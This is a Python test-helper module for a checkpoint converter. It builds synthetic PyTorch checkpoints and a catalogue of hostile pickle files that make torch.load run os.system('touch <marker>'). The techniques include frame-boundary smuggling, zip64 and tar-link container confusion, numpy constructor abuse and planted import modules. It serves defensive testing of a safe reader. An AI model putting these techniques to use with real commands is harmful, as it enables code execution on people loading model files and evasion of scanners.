"""Checkpoints and trees the tests build: the upstream layouts (ckpt_migrate.synthetic), and the
hostile and odd objects a real scratch tree may hold, each defined once."""

from __future__ import annotations

import collections
import dataclasses
import os
import re

import torch

from ckpt_migrate import synthetic

VOCAB = 1000  # tiny, but not a multiple of 128, so vocab padding is exercised
_STEP_IN_NAME = re.compile(r"best_state_(\d+)")


class Call:
    """Pickles as ``func(*args)``: what a hostile checkpoint does to whoever unpickles it."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class OverridingDict(collections.OrderedDict):
    """Pickles as an OrderedDict plus a BUILD whose state would replace the dict's own methods."""

    def __reduce__(self):
        return collections.OrderedDict, (), {"keys": 1, "items": 2, "get": 3}, None, iter(self.items())


def as_main(cls):
    """``cls`` as a class of ``__main__``: how a training script run as a program pickles its own
    classes (``torch.load`` finds them in the running program and imports nothing)."""
    import sys

    cls.__module__, cls.__qualname__ = "__main__", cls.__name__
    setattr(sys.modules["__main__"], cls.__name__, cls)
    return cls


@as_main
@dataclasses.dataclass
class TrainConfig:
    """A training script's config object, saved into its checkpoint."""

    lr: float = 0.02
    batch: int = 8


@dataclasses.dataclass
class ImportedConfig:
    """A config class from an importable module: torch.load would import ``tests.builders`` (code)."""

    lr: float = 0.02


def _step(path) -> int:
    match = _STEP_IN_NAME.search(os.path.basename(str(path)))
    return int(match.group(1)) if match else 100


def small_checkpoint(path, variant: str = "v2", seed: int = 0, step: int | None = None, **kw) -> str:
    """train_gpt_small.py's checkpoint at ``path`` (its step from the file name unless given)."""
    sd = synthetic.small_state_dict(variant, vocab=VOCAB, seed=seed, **kw)
    return synthetic.save(synthetic.upstream_checkpoint(sd, "small", step=step or _step(path)), str(path))


def medium_checkpoint(path, seed: int = 0, step: int | None = None) -> str:
    """train_gpt_medium.py's checkpoint at ``path``."""
    sd = synthetic.medium_state_dict(vocab=VOCAB, seed=seed)
    return synthetic.save(synthetic.upstream_checkpoint(sd, "medium", step=step or _step(path)), str(path))


def hostile_checkpoint(path, payload) -> str:
    """A checkpoint-looking file whose pickle also holds ``payload`` (a :class:`Call`)."""
    return synthetic.save({"model": {"embed.weight": torch.zeros(2, 2)}, "x": payload}, str(path))


def altered_small_checkpoint(path, variant: str = "v2", seed: int = 0, step: int | None = None, mutate=None,
                             pickle_protocol: int = 2, optimizers: bool = True, **kw) -> str:
    """:func:`small_checkpoint` with its state dict changed by ``mutate(sd)`` before saving, written
    with ``pickle_protocol`` and optionally without optimizer state."""
    sd = synthetic.small_state_dict(variant, vocab=VOCAB, seed=seed, **kw)
    if mutate:
        mutate(sd)
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    obj = synthetic.upstream_checkpoint(sd, "small", step=step or _step(path), optimizers=optimizers)
    torch.save(obj, str(path), pickle_protocol=pickle_protocol)
    return str(path)


def poisoned_small_checkpoint(path, key: str, index: tuple, value: float, variant: str = "v2", seed: int = 0,
                              step: int | None = None) -> str:
    """:func:`small_checkpoint` with ``value`` (a NaN, an Inf) written at ``index`` of weight ``key``."""
    def poison(sd):
        sd[key][index] = value
    return altered_small_checkpoint(path, variant, seed=seed, step=step, mutate=poison)


def _attention_in_half_precisions(sd):
    """qkv_w in bf16 and c_proj in fp16: the converter builds qkvo_w in their promoted dtype (fp32)."""
    for key in list(sd):
        if key.endswith(".attn.qkv_w"):
            sd[key] = sd[key].bfloat16()
        elif key.endswith(".attn.c_proj.weight"):
            sd[key] = sd[key].half()


def _lambdas_in_bf16(sd):
    """v1's per-block lambdas in bf16 beside fp32 skip weights: packed scalars promoted to fp32."""
    for key in list(sd):
        if key.endswith("lambdas"):
            sd[key] = sd[key].bfloat16()


def _strided_and_offset(sd):
    """A weight saved as a transposed view (strides (1, rows)) and one at an offset in a larger storage."""
    fc = sd["blocks.0.mlp.c_fc.weight"]
    sd["blocks.0.mlp.c_fc.weight"] = fc.T.contiguous().T
    proj = sd["blocks.1.mlp.c_proj.weight"]
    big = torch.randn(4 * proj.numel(), generator=torch.Generator().manual_seed(1))
    big[proj.numel():2 * proj.numel()] = proj.flatten()
    sd["blocks.1.mlp.c_proj.weight"] = big[proj.numel():2 * proj.numel()].view(proj.shape)


def _nan_small(path, seed):
    # Refused before conversion: "non-finite values in blocks.1.mlp.c_fc.weight (1 NaN, 0 Inf)".
    poisoned_small_checkpoint(path, "blocks.1.mlp.c_fc.weight", (0, 0), float("nan"), seed=seed)


def _raw(data: bytes):
    def build(path, seed):
        os.makedirs(os.path.dirname(str(path)), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    return build


# What build_tree can put at a path, by name.
KINDS = {
    "small v1": lambda path, seed: small_checkpoint(path, "v1", seed=seed),
    "small v2": lambda path, seed: small_checkpoint(path, "v2", seed=seed),
    "medium": lambda path, seed: medium_checkpoint(path, seed=seed),
    "small v2 with NaN": _nan_small,
    "hostile": lambda path, seed: hostile_checkpoint(path, Call(os.system, "touch /tmp/ckpt_migrate_PWNED")),
    "no known layout": lambda path, seed: synthetic.save({"model": {"w": torch.zeros(3)}}, str(path)),
    "empty": _raw(b""),
    "truncated zip": _raw(b"PK\x03\x04 cut short"),
}


def _with_protocol(protocol: int):
    return lambda path, seed: altered_small_checkpoint(path, "v2", seed=seed, pickle_protocol=protocol)


# Every kind of small file the tests convert, by name: each must convert, and its converted
# weights must equal what torch.load(weights_only=True) reads from it (test_torch_agreement.py).
CONVERTED_KINDS = {
    "small v1": KINDS["small v1"],
    "small v2": KINDS["small v2"],
    # Protocol 0 is left out: torch.load cannot read such a file (its persistent ids are text),
    # so the reader calls it unreadable (test_reader.py::test_protocol_0_files_are_unreadable_...).
    **{f"small v2, pickle protocol {n}": _with_protocol(n) for n in (1, 4, 5)},
    "small v1, no optimizer state": lambda path, seed: altered_small_checkpoint(path, "v1", seed=seed, optimizers=False),
    "small v2, attention in bf16 and fp16": lambda path, seed: altered_small_checkpoint(
        path, "v2", seed=seed, mutate=_attention_in_half_precisions),
    "small v1, lambdas in bf16": lambda path, seed: altered_small_checkpoint(path, "v1", seed=seed,
                                                                             mutate=_lambdas_in_bf16),
    "small v2, two heads (model_dim 256)": lambda path, seed: altered_small_checkpoint(
        path, "v2", seed=seed, num_heads=2, model_dim=256),
    "small v2, strided and offset weights": lambda path, seed: altered_small_checkpoint(
        path, "v2", seed=seed, mutate=_strided_and_offset),
}


def build_tree(root, files: dict[str, str]):
    """A clean_bbpe_50k-like tree: ``{relative path: kind}``, kinds from :data:`KINDS`; each
    checkpoint gets its own seed (its place in ``files``) and its step from its name."""
    for seed, (relative, kind) in enumerate(files.items()):
        KINDS[kind](os.path.join(str(root), relative), seed)
    return root


# --- Attack files for issue 19, by technique ----------------------------------------------------
# Each builder writes a file at ``path`` that would run ``touch <marker>`` (or import a module
# whose top level does) under torch.load(weights_only=False), and returns the path. They are
# written by hand from the techniques; tests/stub_unpickler.py shows CPython reaching each call.

import contextlib  # noqa: E402
import copyreg  # noqa: E402
import io  # noqa: E402
import pickle  # noqa: E402
import struct  # noqa: E402
import sys  # noqa: E402
import tarfile  # noqa: E402
import types  # noqa: E402
import zipfile  # noqa: E402
import zlib  # noqa: E402

LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL_VERSION = 1001
LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
FOREIGN_MODULE = "trainlib"  # a training repo's own module: importing it runs its top level


def payload_command(marker) -> str:
    return f"touch {marker}"


def write_payload_module(directory, module: str, marker) -> str:
    """``<directory>/<module>.py`` whose import runs the payload: what torch.load, started in that
    folder, would import for a pickle naming ``module``."""
    path = os.path.join(str(directory), f"{module}.py")
    with open(path, "w") as f:
        f.write(f"import os\nos.system({payload_command(marker)!r})\n\n"
                "class _Any:\n    def __init__(self, *a, **k): os.system('true')\n"
                "    def __iter__(self): return iter(())\n\n"
                "RunConfig = Rows = Registry = Stateful = Gen = _Any\n"
                "def _rebuild_tensor_v2(*a): return None\n")
    return path


def _op_str(text: str) -> bytes:
    """BINUNICODE ``text``."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def _frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def _call_bytes(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` as protocol-0 opcodes (printable ASCII: a string can hold them)."""
    return f"c{module}\n{name}\n(V{arg}\ntR".encode("ascii")


class _RunConfig:
    def __init__(self, lr=0.02, batch=8):
        self.lr, self.batch = lr, batch


class _Rows:
    def __init__(self, rows=(("a", 1),)):
        self.rows = list(rows)

    def __iter__(self):
        return iter(self.rows)


class _Registry(dict):
    pass


class _Stateful:
    def __init__(self):
        self.step = 1

    def __reduce__(self):  # the protocol-0/1 way: copyreg._reconstructor, then BUILD
        return copyreg._reconstructor, (type(self), object, None), {"step": self.step}


class _Gen:
    pass


@contextlib.contextmanager
def posing_as(module: str, *classes):
    """While pickling: ``classes`` look like they live in ``module`` (``__main__`` or a module that
    only exists on the victim's machine), so pickle names them there."""
    saved = [(c, c.__module__, c.__qualname__) for c in classes]
    main = module == "__main__"
    if not main and module in sys.modules:
        raise ValueError(f"{module} is a real module here")
    target = sys.modules["__main__"] if main else types.ModuleType(module)
    for cls in classes:
        cls.__module__, cls.__qualname__ = module, cls.__name__.lstrip("_")
        setattr(target, cls.__qualname__, cls)
    if not main:
        sys.modules[module] = target
    try:
        yield
    finally:
        for cls, mod, qual in saved:
            with contextlib.suppress(AttributeError):
                delattr(target, cls.__qualname__)
            cls.__module__, cls.__qualname__ = mod, qual
        if not main:
            sys.modules.pop(module, None)


def _save(obj, path, protocol: int = 2) -> str:
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    torch.save(obj, str(path), pickle_protocol=protocol)
    return str(path)


def _small_model() -> dict:
    return {"embed.weight": torch.arange(6, dtype=torch.float32).view(2, 3), "head.bias": torch.ones(2)}


def _saved_pickle(obj) -> tuple[bytes, dict[str, bytes]]:
    """torch.save's data.pkl of ``obj`` and its other entries (name -> bytes)."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        entries = {n: z.read(n) for n in z.namelist()}
    name = next(n for n in entries if n.endswith("/data.pkl"))
    return entries.pop(name), {"data.pkl": name, **entries}


def write_zip_checkpoint(path, pkl: bytes, entries: dict[str, bytes], compress_pickle: bool = False) -> str:
    """A torch.save zip (entries as torch wrote them) whose data.pkl is ``pkl``, optionally DEFLATED."""
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    pkl_name = entries["data.pkl"]
    with zipfile.ZipFile(str(path), "w") as z:
        z.writestr(zipfile.ZipInfo(pkl_name), pkl,
                   compress_type=zipfile.ZIP_DEFLATED if compress_pickle else zipfile.ZIP_STORED)
        for name, data in entries.items():
            if name != "data.pkl":
                z.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
    return str(path)


def _spliced(pkl: bytes, segment: bytes) -> bytes:
    """torch.save's pickle of a dict with one more item: ``segment`` pushes MARK, keys and values
    (SETITEMS follows), placed just before the STOP."""
    assert pkl.endswith(b".")
    return pkl[:-1] + segment + b"u."


# -- frames: what CPython's C unpickler reads from a BytesIO, not what a frame-blind reader sees

def frame_hidden_string_segment(command: str) -> bytes:
    """A string whose argument straddles its frame's end: the C unpickler drops the rest of the
    frame and takes the string from after it, then runs the opcodes that a frame-blind reader
    (pickletools.genops) reads as a second string. Pushes MARK 'note' <str> <call result> 'done'."""
    hidden = _call_bytes("posix", "system", command)
    if len(hidden) >= 128:
        raise ValueError("command too long for a one-byte UTF-8 length")
    tail = b"hello"  # the frame's last 5 bytes: dropped by C, read as text by a frame-blind reader
    after = b"a checkpoint note " + b"X" + struct.pack("<I", len(hidden))
    frame = b"\x8c\x04note" + b"\x8c" + bytes([len(after)]) + tail
    return b"(" + _frame(len(frame)) + frame + after + hidden + b"\x8c\x04done"


def frame_restarted_segment(command: str) -> bytes:
    """A FRAME opcode before the current frame is used up, declaring more than is left: the C
    unpickler drops the rest of the first frame (a BINUNICODE header to a frame-blind reader) and
    runs the call as the new frame. Pushes MARK 'note' <call result>."""
    hidden = _call_bytes("posix", "system", command)
    second = hidden
    first = b"\x8c\x04note" + _frame(len(second)) + b"X" + struct.pack("<I", len(hidden))
    return b"(" + _frame(len(first)) + first + second


def frame_split_global(pkl: bytes, module: str = "torch._", rest: str = "utils") -> bytes:
    """Insert one FRAME before the first ``GLOBAL 'torch._utils ...'`` that ends inside the module
    line: the C unpickler reads the line again from after the frame and imports ``utils`` (the
    training repo's utils.py), while a frame-blind reader sees ``torch._utils`` as before."""
    needle = f"c{module}{rest}\n".encode()
    at = pkl.index(needle)
    covered = 1 + len(module)  # 'c' and the first part of the module name
    return pkl[:at] + _frame(covered) + pkl[at:]


def frame_attack(path, marker, technique: str = "string") -> str:
    """A real torch.save checkpoint whose pickle hides ``posix.system`` (or an import of utils.py)
    behind frame boundaries, by ``technique``: "string", "restart" or "global line"."""
    pkl, entries = _saved_pickle({"model": _small_model(), "step": 100})
    if technique == "string":
        pkl = _spliced(pkl, frame_hidden_string_segment(payload_command(marker)))
    elif technique == "restart":
        pkl = _spliced(pkl, frame_restarted_segment(payload_command(marker)))
    elif technique == "global line":
        write_payload_module(os.path.dirname(os.path.abspath(str(path))), "utils", marker)
        pkl = frame_split_global(pkl)
    else:
        raise ValueError(technique)
    return write_zip_checkpoint(path, pkl, entries)


def main_function_called(path, opcode: str = "INST") -> str:
    """A checkpoint whose pickle has INST (or OBJ) with no arguments on ``__main__.main``: CPython's
    unpickler creates a class's instance without __init__, but calls anything else, so the
    training script's ``main()`` runs when torch.load reads it from the script."""
    pkl, entries = _saved_pickle({"model": _small_model(), "step": 100})
    note = b"\x8c\x04note"
    call = b"(i__main__\nmain\n" if opcode == "INST" else b"(c__main__\nmain\no"
    return write_zip_checkpoint(path, _spliced(pkl, b"(" + note + call), entries)


def big_endian_call(path, marker) -> str:
    """A torch.save zip whose ``byteorder`` record says big and whose data.pkl calls posix.system:
    torch unpickles it all the same (it swaps bytes after), so a reader that stops at the
    byteorder never sees the call."""
    pkl, entries = _saved_pickle({"model": _small_model(), "step": 100})
    byteorder = next(name for name in entries if name.endswith("/byteorder"))
    entries[byteorder] = b"big"
    segment = b"(\x8c\x04note" + _call_bytes("posix", "system", payload_command(marker))
    return write_zip_checkpoint(path, _spliced(pkl, segment), entries)


# -- instances of classes the real unpickler imports, builds, fills or passes on

def foreign_instance(path, marker) -> str:
    """A config object of a class from the training repo's module: torch.load imports it."""
    write_payload_module(os.path.dirname(os.path.abspath(str(path))), FOREIGN_MODULE, marker)
    with posing_as(FOREIGN_MODULE, _RunConfig):
        return _save({"model": _small_model(), "config": _RunConfig()}, path)


def build_on_instance(path, marker, main: bool = False) -> str:
    """An instance created by copyreg._reconstructor and given state by BUILD: its class's
    __setstate__ runs (and its module is imported unless it is __main__)."""
    module = "__main__" if main else FOREIGN_MODULE
    if not main:
        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
    with posing_as(module, _Stateful):
        return _save({"model": _small_model(), "state": _Stateful()}, path)


CONTAINERS = {
    "Counter": lambda x: Call(collections.Counter, x),
    "OrderedDict": lambda x: Call(collections.OrderedDict, x),
    "defaultdict": lambda x: Call(collections.defaultdict, None, x),
    "set": lambda x: Call(set, x),
    "copyreg._reconstructor": lambda x: Call(copyreg._reconstructor, list, list, x),
}


def container_from_instance(path, marker, container: str = "Counter", via: str = "class") -> str:
    """``Counter(x)``, ``OrderedDict(x)``, ``defaultdict(None, x)``, ``set(x)`` or
    ``copyreg._reconstructor(list, list, x)``: allowed constructors that iterate ``x``. ``via``:
    "class" (x of the training repo's class: an import), "main" (x a __main__ record: its
    __iter__ runs) or "map" (x = map(posix.system, iter([command])): iterating it is the call)."""
    if via == "map":
        x = map(os.system, iter([payload_command(marker)]))
        return _save({"model": _small_model(), "rows": CONTAINERS[container](x)}, path)
    module = "__main__" if via == "main" else FOREIGN_MODULE
    if via == "class":
        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
    with posing_as(module, _Rows):
        return _save({"model": _small_model(), "rows": CONTAINERS[container](_Rows())}, path)


def setitem_on_instance(path, marker, main: bool = False) -> str:
    """A dict subclass's instance filled by SETITEMS: its own __setitem__ runs."""
    module = "__main__" if main else FOREIGN_MODULE
    if not main:
        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
    with posing_as(module, _Registry):
        registry = _Registry()
        registry["lr"] = 0.1
        return _save({"model": _small_model(), "registry": registry}, path)


def numpy_ctor_attack(path, marker, technique: str = "randomstate") -> str:
    """numpy's RNG unpickling helpers given what they call: ``__randomstate_ctor(command,
    posix.system)`` / ``__generator_ctor(command, posix.system)`` call their second argument with
    the first; ``__bit_generator_ctor(cls)`` instantiates any class ("class": the training
    repo's, "main": a __main__ class)."""
    from numpy.random import _pickle as np_pickle
    ctor = {"randomstate": "__randomstate_ctor", "generator": "__generator_ctor"}
    if technique in ctor:
        value = Call(getattr(np_pickle, ctor[technique]), payload_command(marker), os.system)
        return _save({"model": _small_model(), "rng": value}, path)
    module = "__main__" if technique == "main" else FOREIGN_MODULE
    if technique == "class":
        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
    with posing_as(module, _Gen):
        return _save({"model": _small_model(), "rng": Call(np_pickle.__bit_generator_ctor, _Gen)}, path)


# -- containers torch.load reads besides the zip of data.pkl and data/<key>

def raw_pickle_attack(path, marker, protocol: int = 0) -> str:
    """Not a zip: a bare pickle (first byte 'c', '(', '}'...): torch.load's legacy path unpickles it."""
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    with open(path, "wb") as f:
        f.write(pickle.dumps({"model": {}, "x": Call(os.system, payload_command(marker))}, protocol=protocol))
    return str(path)


class _StorageRef:
    """Stands for storage '0' while pickling a legacy object (its persistent id)."""


class _LegacyPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _StorageRef):
            return ("storage", torch.FloatStorage, "0", "cpu", 4, None)
        return None


def legacy_file(path, marker=None, payload_in: int | None = 5) -> str:
    """A pre-1.6 torch.save file: magic number, protocol 1001, system info, the object (a float
    tensor of 4 elements in storage '0'), the list of storage keys, then the storage bytes.
    ``payload_in``: which of the five pickles (1-5) holds the call; None for an honest file."""
    tensor = Call(torch._utils._rebuild_tensor_v2, _StorageRef(), 0, (4,), (1,), False, collections.OrderedDict())
    parts: list = [LEGACY_MAGIC_NUMBER, LEGACY_PROTOCOL_VERSION, LEGACY_SYS_INFO, {"model": {"w": tensor}}, ["0"]]
    if payload_in is not None:
        call = Call(os.system, payload_command(marker))
        parts[payload_in - 1] = [call] if payload_in == 5 else (parts[payload_in - 1], call)
    out = io.BytesIO()
    for i, part in enumerate(parts):
        if i == 3:
            _LegacyPickler(out, protocol=2).dump(part)
        else:
            out.write(pickle.dumps(part, protocol=2))
    out.write(struct.pack("<q", 4) + struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    with open(path, "wb") as f:
        f.write(out.getvalue())
    return str(path)


def compressed_pickle_checkpoint(path, marker=None) -> str:
    """A torch.save zip whose data.pkl entry is DEFLATED (torch's reader inflates it), with a
    ``posix.system`` call in it (an honest one when ``marker`` is None)."""
    obj = {"model": _small_model(), "step": 100}
    if marker is not None:
        obj["x"] = Call(os.system, payload_command(marker))
    pkl, entries = _saved_pickle(obj)
    return write_zip_checkpoint(path, pkl, entries, compress_pickle=True)


def tar_file(path, marker=None, payload_in: str = "pickle") -> str:
    """The oldest torch.save format: a tar of ``sys_info``, ``pickle`` (the object),
    ``tensors`` and ``storages`` (no tensors or storages here), with a ``posix.system`` call in
    member ``payload_in`` (an honest file when ``marker`` is None)."""
    members = {
        "sys_info": pickle.dumps(LEGACY_SYS_INFO, protocol=2),
        "pickle": pickle.dumps({"step": 100, "lr": 0.1}, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
    }
    if marker is not None:
        call = Call(os.system, payload_command(marker))
        if payload_in == "pickle":
            members["pickle"] = pickle.dumps({"step": 100, "x": call}, protocol=2)
        else:  # the member's first pickle is a count: os.system's exit status 0 serves as one
            count = len(pickle.dumps(0, protocol=2))
            members[payload_in] = pickle.dumps(call, protocol=2) + members[payload_in][count:]
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    with tarfile.open(str(path), "w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return str(path)


# -- containers that Python's zipfile or tarfile, or a reader that does not peek, read one way and
# torch another (red team, issue 19): the ground truth for these is torch.load itself

def _zip_local(name: str, data: bytes) -> bytes:
    raw = name.encode()
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(raw), 0) + raw + data


def _zip_central(name: str, data: bytes, offset: int, comment: bytes = b"") -> bytes:
    raw = name.encode()
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
                       len(data), len(raw), 0, len(comment), 0, 0, 0, offset) + raw + comment


def zip64_locator_in_comment(path, marker) -> str:
    """Two archives in one file. Python's zipfile reads archive A (an honest checkpoint) from the
    end record; a zip64 locator hidden in the 20 bytes before that record (the end of the last
    entry's comment) sends torch's reader to archive B, whose data.pkl calls ``posix.system``."""
    pkl, names = _saved_pickle({"model": _small_model(), "step": 100})
    honest = [(names["data.pkl"], pkl)] + [(n, d) for n, d in names.items() if n != "data.pkl"]
    hostile = [(n, _call_bytes("posix", "system", payload_command(marker)) + b"." if n.endswith("data.pkl") else d)
               for n, d in honest]
    out, offsets = b"", {}
    for tag, entries in (("A", honest), ("B", hostile)):
        offsets[tag] = []
        for name, data in entries:
            offsets[tag].append(len(out))
            out += _zip_local(name, data)
    central_b = b"".join(_zip_central(n, d, o) for (n, d), o in zip(hostile, offsets["B"]))
    central_b_at = len(out)
    out += central_b
    zip64_at = len(out)
    out += struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, len(hostile), len(hostile), len(central_b),
                       central_b_at)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, zip64_at, 1)
    central_a = b"".join(_zip_central(n, d, o, comment=b"\0" * 56 + locator if i == len(honest) - 1 else b"")
                         for i, ((n, d), o) in enumerate(zip(honest, offsets["A"])))
    central_a_at = len(out)
    out += central_a + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(honest), len(honest), len(central_a),
                                   central_a_at, 0)
    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
    with open(path, "wb") as f:
        f.write(out)
    return str(path)


def storage_twins_differing_in_case(path, lower_first: bool = True) -> str:
    """``{'w': arange(4)}`` whose storage is ``data/a``, beside a ``data/A`` of 666s: zipfile
    matches names exactly, torch's reader without regard to case."""
    pkl, names = _saved_pickle({"w": torch.arange(4, dtype=torch.float32)})
    pkl = pkl.replace(b"X\x01\x00\x00\x000", b"X\x01\x00\x00\x00a")
    folder = names["data.pkl"].rsplit("/", 1)[0]
    twins = [(f"{folder}/data/a", names.pop(f"{folder}/data/0")),
             (f"{folder}/data/A", torch.full((4,), 666.0).numpy().tobytes())]
    names.update(twins if lower_first else twins[::-1])
    return write_zip_checkpoint(path, pkl, names)


def legacy_stop_inside_frame(path, marker) -> str:
    """A pre-1.6 file whose first pickle (the magic number) ends inside a frame that goes on with a
    call: torch reads the next pickle from its file buffer right after STOP, so it runs the call."""
    with open(legacy_file(path), "rb") as f:
        honest = f.read()
    first = pickle.dumps(LEGACY_MAGIC_NUMBER, protocol=2)
    assert honest.startswith(first)
    body = first[2:] + _call_bytes("posix", "system", payload_command(marker)) + b"."
    with open(path, "wb") as f:
        f.write(b"\x80\x04" + _frame(len(body)) + body + honest[len(first):])
    return str(path)


def tar_member_linked(path, marker, member: str = "pickle") -> str:
    """The tar format with ``member`` a hard link to a member that calls ``posix.system``."""
    tar_file(path)
    with tarfile.open(str(path), "r:") as tar:
        members = {i.name: tar.extractfile(i).read() for i in tar.getmembers()}
    with tarfile.open(str(path), "w:", format=tarfile.PAX_FORMAT) as tar:
        payload = _call_bytes("posix", "system", payload_command(marker)) + b"."
        for name, data in [("evil", payload)] + list(members.items()):
            info = tarfile.TarInfo(name)
            if name == member:
                info.type, info.linkname = tarfile.LNKTYPE, "evil"
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return str(path)


# Attacks whose container Python's own readers see differently from torch: (builder, name).
TORCH_LOAD_ATTACKS = {
    "byteorder big, call in data.pkl": (big_endian_call, "posix.system"),
    "zip64 locator in a comment sends torch to a second archive": (zip64_locator_in_comment, "posix.system"),
    "legacy file, STOP inside a frame that goes on with a call": (legacy_stop_inside_frame, "posix.system"),
    "tar format, pickle a hard link to a hostile member": (tar_member_linked, "posix.system"),
    "tar format, storages a hard link to a hostile member": (lambda p, m: tar_member_linked(p, m, "storages"),
                                                             "posix.system"),
}

_DOTTED = {"Counter": "collections.Counter", "OrderedDict": "collections.OrderedDict",
           "defaultdict": "collections.defaultdict", "set": "builtins.set"}

# Every attack above, by name: (builder, the name its reason must give, or a tuple of names any
# of which will do: a __main__ record, or the allowed callable it is passed to). Each is called
# as builder(path, marker).
ATTACKS = {
    "frame: string straddles the frame end": (lambda p, m: frame_attack(p, m, "string"), "posix.system"),
    "frame: new frame before the last is used up": (lambda p, m: frame_attack(p, m, "restart"), "posix.system"),
    "frame: GLOBAL line straddles the frame end": (lambda p, m: frame_attack(p, m, "global line"),
                                                   "utils._rebuild_tensor_v2"),
    "instance of a foreign class": (foreign_instance, f"{FOREIGN_MODULE}.RunConfig"),
    "BUILD on a foreign instance": (build_on_instance, f"{FOREIGN_MODULE}.Stateful"),
    **{f"{c}(foreign instance)": (lambda p, m, c=c: container_from_instance(p, m, c, "class"),
                                  f"{FOREIGN_MODULE}.Rows") for c in CONTAINERS},
    **{f"{c}(__main__ record)": (lambda p, m, c=c: container_from_instance(p, m, c, "main"),
                                 ("__main__.Rows", _DOTTED.get(c, c))) for c in CONTAINERS},
    **{f"{c}(map(posix.system, ...))": (lambda p, m, c=c: container_from_instance(p, m, c, "map"), "builtins.map")
       for c in CONTAINERS},
    "SETITEMS on a foreign dict subclass": (setitem_on_instance, f"{FOREIGN_MODULE}.Registry"),
    "SETITEMS on a __main__ dict subclass": (lambda p, m: setitem_on_instance(p, m, main=True), "__main__.Registry"),
    "numpy __randomstate_ctor(command, posix.system)": (lambda p, m: numpy_ctor_attack(p, m, "randomstate"),
                                                        "posix.system"),
    "numpy __generator_ctor(command, posix.system)": (lambda p, m: numpy_ctor_attack(p, m, "generator"),
                                                      "posix.system"),
    "numpy __bit_generator_ctor(foreign class)": (lambda p, m: numpy_ctor_attack(p, m, "class"),
                                                  f"{FOREIGN_MODULE}.Gen"),
    "numpy __bit_generator_ctor(__main__ class)": (lambda p, m: numpy_ctor_attack(p, m, "main"),
                                                   ("__main__.Gen", "numpy.random._pickle.__bit_generator_ctor")),
    "raw protocol-0 pickle": (lambda p, m: raw_pickle_attack(p, m, 0), "posix.system"),
    "raw protocol-1 pickle": (lambda p, m: raw_pickle_attack(p, m, 1), "posix.system"),
    "legacy file, call in the storage keys (5th pickle)": (lambda p, m: legacy_file(p, m, 5), "posix.system"),
    "legacy file, call in the system info (3rd pickle)": (lambda p, m: legacy_file(p, m, 3), "posix.system"),
    "zip with data.pkl DEFLATED": (compressed_pickle_checkpoint, "posix.system"),
    "tar format, call in pickle": (tar_file, "posix.system"),
    "tar format, call in storages": (lambda p, m: tar_file(p, m, "storages"), "posix.system"),
}
